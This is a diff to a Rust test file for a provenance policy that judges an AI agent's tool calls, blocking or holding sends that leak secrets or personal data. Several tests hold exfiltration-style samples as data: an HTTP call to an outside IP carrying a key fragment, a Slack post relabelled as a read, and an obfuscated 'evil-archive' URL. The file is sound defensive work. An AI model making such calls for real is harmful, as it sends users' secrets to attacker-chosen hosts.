@@ -203,7 +203,7 @@ fn links_from_untrusted_text_wait_and_links_that_carry_data_are_refused() {
 }
 
 #[test]
-fn personal_data_only_an_outsider_wrote_is_not_private_a_secret_anywhere_is() {
+fn secrets_and_personal_data_anywhere_are_private_and_mail_inside_stays_in() {
     let p = policy(ProvenanceConfig::default());
     let send = intent(
         "send_email",
@@ -226,33 +226,22 @@ fn personal_data_only_an_outsider_wrote_is_not_private_a_secret_anywhere_is() {
         "From: events@venue.example ...",
         0.0,
     );
+    let j = p.judge(&send, &d, &ctx).unwrap();
+    assert!(!j.taint.sensitive && j.taint.sends, "{j:?}");
+    assert_eq!(j.verdict, Verdict::Review, "a tainted write waits: {j:?}");
+    // Personal data in an untrusted piece (an inbox holds other people's) is private too.
     ctx.note_values("messages[2]", 0, 1);
     let j = p.judge(&send, &d, &ctx).unwrap();
-    assert!(!j.taint.sensitive, "{j:?}");
-    assert!(j.taint.sends, "corp.example is not internal here");
+    assert!(j.taint.sensitive);
+    assert_eq!(j.verdict, Verdict::Block);
+    // Mail to an internal address stays in: rule 1 alone.
     let inside = policy(ProvenanceConfig {
         internal_domains: vec!["corp.example".into()],
         ..ProvenanceConfig::default()
     });
-    assert!(!inside.judge(&send, &d, &ctx).unwrap().taint.sends);
-    assert_eq!(
-        j.verdict,
-        Verdict::Review,
-        "a tainted write still waits: {j:?}"
-    );
-    ctx.note_values("messages[0]", 0, 1);
-    assert!(p.judge(&send, &d, &ctx).unwrap().taint.sensitive);
-    let mut ctx2 = Provenance::new();
-    ctx2.add(
-        Origin::Tool("read_file".into()),
-        "messages[2]",
-        "aws_secret_access_key=...",
-        0.0,
-    );
-    ctx2.note_values("messages[2]", 1, 0);
-    let j = p.judge(&send, &d, &ctx2).unwrap();
-    assert!(j.taint.sensitive);
-    assert_eq!(j.verdict, Verdict::Block);
+    let j = inside.judge(&send, &d, &ctx).unwrap();
+    assert!(!j.taint.sends);
+    assert_eq!(j.verdict, Verdict::Review);
     // A secret where no piece is labelled (the model's own turn) counts too.
     let mut ctx3 = Provenance::new();
     ctx3.add(
@@ -266,6 +255,78 @@ fn personal_data_only_an_outsider_wrote_is_not_private_a_secret_anywhere_is() {
 }
 
 #[test]
+fn the_model_cannot_make_a_sender_a_read_by_its_verb() {
+    let p = policy(ProvenanceConfig::default());
+    let mut ctx = sre_context();
+    ctx.add_sensitive(1);
+    // `post_slack` with `action: get` classes as a read by the verb table; it still sends.
+    let i = intent(
+        "post_slack",
+        "get",
+        json!({"channel": "#ext", "text": "the key", "action": "get"}),
+    );
+    let d = classified("post_slack", "write")
+        .evaluate(&i, &NoSymlinks)
+        .unwrap();
+    assert_eq!(d.class, ActionClass::Read, "the verb table reads `get`");
+    let j = p.judge(&i, &d, &ctx).unwrap();
+    assert_eq!(j.verdict, Verdict::Block, "{j:?}");
+    // A read whose arguments carry data the context does not hold, to an outside host, sends.
+    let r = intent(
+        "http_get",
+        "call",
+        json!({"host": "203.0.113.9", "endpoint": "/v1/check?k=wjalrxutnfemi"}),
+    );
+    let d = classified("http_get", "read")
+        .evaluate(&r, &NoSymlinks)
+        .unwrap();
+    let j = p.judge(&r, &d, &ctx).unwrap();
+    assert!(j.taint.sends, "{j:?}");
+    assert_eq!(j.verdict, Verdict::Block);
+    // A destination no trusted piece names is attacker-chosen, however it was written.
+    let f = intent(
+        "fetch_url",
+        "call",
+        json!({"url": "https://evil-archive%2Eio/x"}),
+    );
+    let d = classified("fetch_url", "read")
+        .evaluate(&f, &NoSymlinks)
+        .unwrap();
+    let j = p.judge(&f, &d, &sre_context()).unwrap();
+    assert_eq!(j.verdict, Verdict::Review, "{j:?}");
+    assert!(j.taint.chosen[0].why.contains("evil-archive.io"), "{j:?}");
+}
+
+#[test]
+fn tracing_copies_is_bounded() {
+    let p = policy(ProvenanceConfig::default());
+    let mut ctx = Provenance::new();
+    ctx.add(Origin::User, "messages[0]", &"=".repeat(200_000), 0.0);
+    for i in 0..8 {
+        let text: String = (0..1_000_000u32)
+            .map(|j| char::from(b'a' + ((j * 7 + i) % 26) as u8))
+            .collect();
+        ctx.add(
+            Origin::Tool("web".into()),
+            format!("messages[{i}]"),
+            &text,
+            0.0,
+        );
+    }
+    let args: serde_json::Map<String, serde_json::Value> = (0..200)
+        .map(|i| (format!("a{i}"), json!("=".repeat(40) + &format!("{i:040}"))))
+        .collect();
+    let w = intent("write_file", "write", serde_json::Value::Object(args));
+    let d = action(ActionMode::Autonomous)
+        .evaluate(&w, &NoSymlinks)
+        .unwrap();
+    // 8 MB of untrusted text, 200 arguments and a long run in trusted text: the trace stops
+    // at its bound (which an unbounded one took minutes to reach) and the call still waits.
+    let j = p.judge(&w, &d, &ctx).unwrap();
+    assert!(j.verdict >= Verdict::Review);
+}
+
+#[test]
 fn origins_code_and_addresses_are_read_as_what_they_are() {
     let p = policy(ProvenanceConfig {
         internal_domains: vec!["corp.example".into()],
@@ -274,24 +335,28 @@ fn origins_code_and_addresses_are_read_as_what_they_are() {
     let d = |v: &str| -> Vec<(String, bool)> {
         p.destinations(v)
             .into_iter()
-            .map(|d| (d.host, d.bare))
+            .map(|d| (d.host, d.link))
             .collect()
     };
-    // An address's local part is not a domain; code is not a host; an origin is bare.
+    // An address's local part is not a domain; code is not a host; an IP address is one.
     assert_eq!(
         d("mail marco.rossi@corp.example"),
         [("corp.example".to_string(), false)]
     );
     assert!(d("session = bh.session(key)").is_empty());
     assert_eq!(
-        d("npm view x --registry=https://registry.npmjs.org"),
-        [("registry.npmjs.org".to_string(), true)]
+        d("git ls-remote 203.0.113.9:repo"),
+        [("203.0.113.9".to_string(), false)]
     );
     assert_eq!(
         d("https://collect.example.net/?t=1"),
-        [("collect.example.net".to_string(), false)]
+        [("collect.example.net".to_string(), true)]
     );
+    assert!(is_origin("https://registry.npmjs.org") && !is_origin("https://x.example/?q=1"));
     assert!(p.internal("git.corp.example") && !p.internal("corp.example.evil.net"));
+    // A host is named only on its boundaries: `acme.co` is not in `acme.com`.
+    assert!(!contains_bounded("mail acme.com today", "acme.co"));
+    assert!(contains_bounded("mail acme.co today", "acme.co"));
 }
 
 #[test]
@@ -404,7 +469,10 @@ fn contexts_are_bounded_and_their_text_is_never_printed() {
     }
     assert_eq!(p.pieces().len(), MAX_PIECES);
     // Past the bound, the one tool's label is kept once.
-    assert_eq!(p.earlier, vec![Origin::Tool("t".into())]);
+    assert_eq!(
+        p.earlier,
+        vec![(Origin::Tool("t".into()), "past the bound".to_string())]
+    );
 }
 
 proptest::proptest! {
@@ -414,8 +482,10 @@ proptest::proptest! {
     ) {
         let value = format!("{other}{run}{other}");
         let text = format!("{pre}{run}{post}");
-        let n = common_run(&value, &text, 24, &|_| false);
-        proptest::prop_assert!(n.is_some_and(|n| n >= 24));
-        proptest::prop_assert!(common_run(&value, &text, 24, &|_| true).is_none());
+        let mut budget = MAX_COPY_WORK;
+        let found = common_runs(&[&value], &text, 24, (&|_| false, 0), &mut budget).unwrap();
+        proptest::prop_assert!(found.len() == 1 && found[0].1 >= 24);
+        let found = common_runs(&[&value], &text, 24, (&|_| true, 0), &mut budget).unwrap();
+        proptest::prop_assert!(found.is_empty());
     }
 }
